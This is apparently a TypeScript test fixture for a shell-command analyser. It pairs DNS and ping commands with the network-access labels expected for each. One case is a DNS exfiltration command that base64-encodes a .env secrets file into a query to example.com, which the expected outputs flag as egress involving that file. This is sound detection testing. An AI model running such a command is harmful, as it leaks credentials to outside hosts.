import type { ProgramCases } from '../program.ts'

export const cases: ProgramCases = [
  ['dig +short example.com'],
  [
    'dig "$(base64 -w0 .env).example.com"',
    'net out example.com ?',
    'net out example.com /srv/project/.env ?',
    'net out example.com /srv/project/-w0 ?',
    'net out example.com /srv/project/0 ?',
  ],
  ['nslookup example.com'],
  ['host example.com 1.1.1.1'],
  ['drill example.com'],
  ['ping -c 1 example.com'],
]
